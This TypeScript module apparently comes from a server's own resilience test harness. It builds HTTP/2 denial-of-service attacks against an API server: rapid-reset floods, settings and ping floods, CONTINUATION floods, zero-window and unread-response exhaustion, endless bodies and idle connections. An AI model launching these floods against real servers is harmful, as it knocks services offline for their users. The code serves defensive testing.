/** HTTP/2 frames that cost the server more than the client. */
import type { TLSSocket } from "node:tls";
import {
  endHeaders,
  endStream,
  frame,
  frameType,
  headerBlock,
  preface,
  requestBlock,
  resetFrame,
} from "../../packages/apiserver/src/http/testing/http2-frames.ts";
import type { Arena } from "../arena.ts";
import type { Attack, AttackClass } from "../attack.ts";
import { knock } from "../exchange.ts";
import { maps } from "./paths.ts";

const wait = (ms: number): Promise<void> =>
  new Promise((resolve) => {
    setTimeout(resolve, ms);
  });

/** Settings with a window of 0: the server may send heads, but no bodies. */
const noWindow = frame({ type: frameType.settings, payload: Buffer.of(0, 4, 0, 0, 0, 0) });
const request = (stream: number, block: Buffer, flags: number = endHeaders | endStream): Buffer =>
  frame({ type: frameType.headers, flags, stream, payload: block });
const odd = (index: number): number => 2 * index + 1;
const many = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

/** Opens connections, sends the same bytes on each, and closes them after a while. */
const sending = (
  name: string,
  bytes: () => Buffer,
  {
    connections = 1,
    rounds = 1,
    reads = true,
    waitMs = 2000,
  }: Partial<Record<"connections" | "rounds" | "waitMs", number>> & { reads?: boolean } = {},
): Attack => ({
  name,
  act: async ({ target }: Arena) => {
    const sockets: TLSSocket[] = await Promise.all(Array.from({ length: connections }, () => knock(target, "h2")));
    const sent = bytes();
    for (const socket of sockets) {
      socket.on("error", () => undefined);
      if (reads) socket.resume();
      else socket.pause();
      socket.write(preface);
      for (let round = 0; round < rounds && socket.writable; round++) socket.write(sent);
    }
    await wait(waitMs);
    for (const socket of sockets) socket.destroy();
  },
});

const list = requestBlock("GET", "/openapi/v2");
const watch = requestBlock("GET", `${maps}?watch=true`);
const upload = requestBlock("POST", maps, headerBlock("content-type", "application/json"));

export const http2: AttackClass = {
  name: "http2",
  attacks: [
    sending("20,000 requests that are reset at once", () =>
      many(20_000, (index) => Buffer.concat([request(odd(index), list), resetFrame(odd(index), 8)])),
    ),
    sending(
      "100 connections that reset 900 watches each",
      () => many(900, (index) => Buffer.concat([request(odd(index), watch), resetFrame(odd(index), 8)])),
      { connections: 100, waitMs: 4000 },
    ),
    sending("500,000 settings", () => many(10_000, () => frame({ type: frameType.settings, payload: Buffer.of(0, 4, 0, 0, 255, 255) })), {
      rounds: 50,
      reads: false,
    }),
    sending("500,000 pings", () => many(10_000, () => frame({ type: frameType.ping, payload: Buffer.alloc(8) })), { rounds: 50 }),
    sending(
      "500,000 pings whose answers are not read",
      () => many(10_000, () => frame({ type: frameType.ping, payload: Buffer.alloc(8) })),
      {
        rounds: 50,
        reads: false,
      },
    ),
    sending("a head with continuations of 10 MB", () =>
      Buffer.concat([
        request(1, list, endStream),
        many(1000, () => frame({ type: frameType.continuation, stream: 1, payload: headerBlock("x-a", "b".repeat(10_000)) })),
      ]),
    ),
    sending("100,000 continuations without a byte", () =>
      Buffer.concat([request(1, list, endStream), many(100_000, () => frame({ type: frameType.continuation, stream: 1 }))]),
    ),
    sending("200,000 pieces of a body without a byte", () =>
      Buffer.concat([request(1, upload, endHeaders), many(200_000, () => frame({ type: frameType.data, stream: 1 }))]),
    ),
    sending(
      "1,000 large responses without a window for their bodies",
      () => Buffer.concat([noWindow, many(100, (index) => request(odd(index), list))]),
      { connections: 10, waitMs: 3000 },
    ),
    sending("1,000 large responses on connections that are not read", () => many(100, (index) => request(odd(index), list)), {
      connections: 10,
      reads: false,
      waitMs: 3000,
    }),
    sending("5,000 watches on 50 connections", () => many(100, (index) => request(odd(index), watch)), { connections: 50, waitMs: 3000 }),
    sending(
      "5,000 bodies that never end",
      () =>
        many(100, (index) =>
          Buffer.concat([
            request(odd(index), upload, endHeaders),
            frame({ type: frameType.data, stream: odd(index), payload: Buffer.from("{") }),
          ]),
        ),
      { connections: 50, waitMs: 3000 },
    ),
    sending("200 connections without a request", () => Buffer.alloc(0), { connections: 200 }),
    sending("a megabyte of noise", () => Buffer.alloc(1_000_000, 0xaa)),
  ],
};
